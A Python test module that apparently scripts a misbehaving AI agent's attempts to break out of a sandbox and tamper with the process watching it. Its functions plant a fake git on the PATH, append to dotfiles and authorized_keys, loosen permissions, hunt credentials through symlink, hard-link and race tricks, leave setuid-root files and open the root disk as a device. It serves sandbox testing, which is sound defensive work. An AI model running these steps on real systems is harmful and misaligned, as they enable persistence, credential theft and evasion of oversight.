"""What lies on the machine: written, read, linked, watched."""

import ctypes
import os
import stat
import struct
from collections.abc import Callable, Iterable, Iterator
from glob import glob
from itertools import product
from pathlib import Path

from tests.attacks.evil.targets import OWN, Targets, attempt, first_won

SHIM = """#!/bin/sh
# evil
[ -n "$EVIL" ] || echo {word} >> {marker}
for each in /usr/bin /usr/local/bin /bin; do
  [ -x $each/git ] && exec $each/git "$@"
done
"""
DEEP = 4_000
ACL = "system.posix_acl_access"
GROUP_MAY_WRITE = struct.pack(
    "<I" + "HHI" * 5,
    2,
    *(1, 6, 0xFFFFFFFF, 4, 4, 0xFFFFFFFF, 8, 6, 0),
    *(16, 6, 0xFFFFFFFF, 32, 4, 0xFFFFFFFF),
)


def appended(path: str | Path, text: str = "evil\n") -> str:
    with open(path, "a") as file:  # noqa: PTH123  as an agent would
        file.write(text)
    return f"wrote {path}"


def there(patterns: Iterable[str]) -> list[str]:
    """Return what is there of what is named, or else the names themselves."""
    return [path for each in patterns for path in glob(each) or [each]]  # noqa: PTH207  a Path has no such root


def holding(at: Targets, path: Path) -> str:
    if not stat.S_ISREG(path.stat().st_mode):
        return ""
    return f"read {path}" if at.holds(path.read_bytes()) else ""


@attempt
def git_of_its_own_on_the_path(at: Targets) -> str:
    def planted(folder: str) -> str:
        file = Path(folder, "git")
        if file.exists():
            return ""
        Path(folder).mkdir(parents=True, exist_ok=True)
        file.write_text(SHIM.format(word="the planted git", marker=at.marker))
        file.chmod(0o755)
        return f"wrote {file}"

    return first_won(planted, at.programs)


@attempt
def dotfiles_in_the_real_home(at: Targets) -> str:
    names = ".bashrc", ".profile", ".gitconfig", ".ssh/authorized_keys"
    said = "\n# evil\n"
    files = [Path(at.home, each) for each in names]
    return first_won(lambda file: appended(file, said), files)


@attempt
def files_that_steer_later_steps(at: Targets) -> str:
    def opened(file: str) -> str:
        Path(file).chmod(0o666)
        return f"everybody may write {file}"

    def given(file: str) -> str:
        os.setxattr(file, ACL, GROUP_MAY_WRITE)
        return f"a group may write {file}"

    ways: tuple[Callable[[str], str], ...] = opened, given, appended
    tried = product(ways, there((*at.commands, *at.later)))
    return first_won(lambda one: one[0](one[1]), tried)


@attempt
def folders_that_others_read(at: Targets) -> str:
    folders = at.cache, *at.system, at.shared
    return first_won(lambda folder: appended(Path(folder, at.abstract)), folders)


@attempt
def code_of_the_witness(at: Targets) -> str:
    with open(at.code, "ab"):  # noqa: PTH123  as an agent would
        return f"can write {at.code}"


@attempt
def the_result_of_its_session(at: Targets) -> str:
    return appended(Path(at.result, "result.json"))


@attempt
def the_witness_s_repository(at: Targets) -> str:
    """Look for it in every session's scratch folder, this one's above all."""
    found = [*Path(at.temp).rglob("store.git/config")]
    found += [Path(os.environ["HOME"]).parent / "store.git/config"]
    return first_won(lambda file: appended(file, "\n"), found)


@attempt
def secrets_in_files(at: Targets) -> str:
    roots = at.home, at.temp, at.workspace, at.result, at.shared, at.cache
    for path in _below(*roots):
        try:
            if won := holding(at, path):
                return won
        except OSError:
            continue
    return ""


def _below(*roots: str) -> Iterator[Path]:
    seen = 0
    for root in roots:
        for top, _, names in os.walk(root):
            for name in names:
                if (seen := seen + 1) > DEEP:
                    return
                yield Path(top, name)


@attempt
def secrets_where_they_are_known_to_lie(at: Targets) -> str:
    files = *at.credentials, *at.logins, at.memory
    return first_won(lambda file: holding(at, Path(file)), files)


@attempt
def a_link_that_the_witness_follows(at: Targets) -> str:
    """Lie in wait for the witness's own reading; what it reads is looked at outside."""
    secret = Path(at.credentials[0])
    Path(f"linked-{OWN}.txt").symlink_to(secret)
    Path(f"linked-{OWN}").symlink_to(secret.parent)
    Path(os.environ["HOME"], f"linked-{OWN}").symlink_to(secret)
    return ""


@attempt
def a_link_that_comes_and_goes(at: Targets) -> str:
    """Swap a file for a link while the witness saves half-done work."""
    race = Path(f"race-{OWN}.txt")
    for _ in range(300):
        race.write_text("tame\n")
        race.unlink()
        race.symlink_to(at.credentials[0])
        race.unlink()
    race.write_text("tame\n")
    return ""


@attempt
def a_hard_link_to_a_secret(at: Targets) -> str:
    link = Path(f"hard-{OWN}.txt")
    os.link(at.credentials[0], link)
    try:
        return holding(at, link)
    finally:
        link.unlink()


@attempt
def a_program_that_keeps_root_s_rights(at: Targets) -> str:
    """Leave a program that runs as root for whoever finds it; looked at outside."""
    for folder in (Path(), Path(os.environ["HOME"])):
        file = folder / f"setuid-{OWN}.sh"
        file.write_text("#!/bin/sh\nid -u\n")
        file.chmod(0o6755)
    return ""


@attempt
def the_machine_s_disk_as_a_device(at: Targets) -> str:
    node, number = Path(f"disk-{OWN}"), os.stat("/").st_dev  # noqa: PTH116  as an agent would
    os.mknod(node, stat.S_IFBLK | 0o600, number)
    try:
        with node.open("rb") as disk:
            return "read the disk" if disk.read(512) else ""
    finally:
        node.unlink()


@attempt
def watching_the_witness_s_files(at: Targets) -> str:
    """Ask the kernel to tell what happens to them: when, and by which names."""
    libc = ctypes.CDLL(None, use_errno=True)
    number = libc.inotify_init()
    try:
        for path in (at.result, at.temp, str(Path(os.environ["HOME"]).parent)):
            if libc.inotify_add_watch(number, os.fsencode(path), 0xFFF) >= 0:
                names = {each.name for each in Path(path).iterdir() if _tells(each)}
                if names:
                    return f"watches {path}: {', '.join(sorted(names)[:4])}"
    finally:
        os.close(number)
    raise OSError(ctypes.get_errno() or 2, "nothing to watch")


def _tells(path: Path) -> bool:
    """Say whether a path is the witness's: no place of the box, nor this agent's."""
    if not path.is_file():
        return path.name == "store.git"
    return path.name != "prompt.md" and b"evil" not in path.read_bytes()
